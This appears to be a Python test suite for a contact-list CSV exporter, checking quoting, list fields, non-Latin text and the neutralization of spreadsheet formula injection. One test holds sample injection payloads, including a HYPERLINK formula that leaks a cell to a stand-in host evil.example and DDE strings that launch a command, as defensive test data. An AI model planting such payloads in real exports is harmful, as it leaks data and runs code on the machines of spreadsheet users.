"""The people CSV writer: header, lists, non-Latin text and formula injection."""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import Mapping, Sequence
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from netweave.io.csv_export import DANGEROUS_PREFIXES, neutralize, write_people_csv

COLUMNS = ["name", "emails", "phones", "company", "tags", "first_met", "strength"]


def export(
    rows: Sequence[Mapping[str, object]], columns: Sequence[str] = COLUMNS
) -> list[list[str]]:
    """Write rows and read them back with the csv module."""
    out = io.StringIO(newline="")
    assert write_people_csv(rows, columns, out) == len(rows)
    return list(csv.reader(io.StringIO(out.getvalue(), newline="")))


def test_one_row_per_person_under_a_header() -> None:
    rows: list[dict[str, object]] = [
        {
            "name": "Ana Lima",
            "emails": ["ana@example.org", "ana.lima@work.example"],
            "phones": [],
            "company": "Northwind",
            "tags": ("alumni", "mentor"),
            "first_met": dt.date(2025, 9, 14),
            "strength": 0.72,
            "ignored": "not a column",
        },
        {"name": "Bo", "company": None},
    ]
    assert export(rows) == [
        COLUMNS,
        [
            "Ana Lima",
            "ana@example.org; ana.lima@work.example",
            "",
            "Northwind",
            "alumni; mentor",
            "2025-09-14",
            "0.72",
        ],
        ["Bo", "", "", "", "", "", ""],
    ]


def test_rows_end_with_crlf_and_special_characters_are_quoted() -> None:
    out = io.StringIO(newline="")
    write_people_csv(
        [{"name": 'Lee, "Sam"', "notes": "line one\nline two"}], ["name", "notes"], out
    )
    assert out.getvalue() == 'name,notes\r\n"Lee, ""Sam""","line one\nline two"\r\n'


def test_sets_booleans_and_datetimes_are_written_plainly() -> None:
    moment = dt.datetime(2026, 3, 2, 17, 4, tzinfo=dt.UTC)
    rows = [{"tags": {"b", "a"}, "is_me": True, "seen": moment, "count": 3}]
    assert export(rows, ["tags", "is_me", "seen", "count"])[1] == [
        "a; b",
        "true",
        "2026-03-02T17:04:00+00:00",
        "3",
    ]


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
        "=1+1",
        "+1 415 555 0100",  # a real phone number gets the quote too: the documented price
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1,1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_formula_injection_is_neutralized(value: str) -> None:
    rows = [{"name": value, "emails": [value, "ok@example.org"]}]
    [_, row] = export(rows, ["name", "emails"])
    assert row == ["'" + value, "'" + value + "; ok@example.org"]


@pytest.mark.parametrize(
    "value", ["Ana", "", "'quoted already", "a=b", "O'Brien", "50% + change", "ana@example.org"]
)
def test_harmless_cells_are_left_alone(value: str) -> None:
    assert neutralize(value) == value


def test_negative_numbers_get_the_quote_too() -> None:
    assert export([{"strength": -3}], ["strength"])[1] == ["'-3"]


def test_non_latin_text_round_trips_through_a_utf8_file(tmp_path: Path) -> None:
    rows: list[dict[str, object]] = [
        {"name": "Jürgen Müller", "company": "Müller & Söhne GmbH"},
        {"name": "山田 太郎", "company": "株式会社サンプル"},
        {"name": "Σοφία Παπαδοπούλου", "company": "Ελληνικά"},
        {"name": "أحمد علي", "company": "شركة"},
        {"name": "Zoë 🚀", "company": "=cmd"},
    ]
    path = tmp_path / "people.csv"
    with path.open("w", encoding="utf-8", newline="") as out:
        assert write_people_csv(rows, ["name", "company"], out) == 5
    with path.open(encoding="utf-8", newline="") as back:
        read = list(csv.DictReader(back))
    assert read == [{"name": r["name"], "company": neutralize(str(r["company"]))} for r in rows]


_CELL = st.text(max_size=20)
_VALUE = st.one_of(st.none(), _CELL, st.lists(_CELL, max_size=4), st.integers(), st.floats())


@given(
    rows=st.lists(st.dictionaries(st.sampled_from(["a", "b", "c"]), _VALUE), max_size=6),
    columns=st.lists(st.sampled_from(["a", "b", "c", "=x", "+y"]), min_size=1, max_size=4),
)
def test_no_output_cell_ever_starts_with_a_dangerous_character(
    rows: list[dict[str, object]], columns: list[str]
) -> None:
    read = export(rows, columns)
    assert len(read) == len(rows) + 1
    for row in read:
        assert len(row) == len(columns)
        assert not any(cell.startswith(DANGEROUS_PREFIXES) for cell in row)


@given(rows=st.lists(st.dictionaries(st.sampled_from(["a", "b"]), _CELL), max_size=6))
def test_text_round_trips_except_for_the_neutralizing_quote(rows: list[dict[str, str]]) -> None:
    read = export(rows, ["a", "b"])
    assert read[1:] == [[neutralize(row.get(key, "")) for key in ("a", "b")] for row in rows]


@given(_CELL)
def test_neutralize_is_idempotent_and_only_prepends(cell: str) -> None:
    once = neutralize(cell)
    assert neutralize(once) == once
    assert once in (cell, "'" + cell)
